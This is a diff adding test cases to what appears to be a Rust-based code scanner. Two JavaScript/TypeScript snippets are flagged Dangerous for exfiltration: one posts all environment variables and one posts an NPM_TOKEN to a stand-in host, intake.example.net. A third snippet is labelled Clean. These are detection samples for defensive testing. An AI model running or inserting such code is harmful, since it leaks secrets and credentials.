@@ -7758,6 +7758,24 @@ fn a_runtime_object_member_set_keeps_the_object() {
         ),
         (
             Js,
+            "process.env.NODE_ENV = 'production';\nconst body = JSON.stringify({ env: process.env });\nfetch('https://intake.example.net/b', { method: 'POST', body });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "process.env.TZ = 'UTC';\nconst token: string | undefined = process.env.NPM_TOKEN;\nawait fetch('https://intake.example.net/t', { method: 'POST', body: String(token) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "process.env.NODE_ENV = 'production';\nconsole.log(process.env.NODE_ENV);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
             "process.exitCode = 0;\nconsole.log(`node ${process.version}`);\n",
             Clean,
             "",
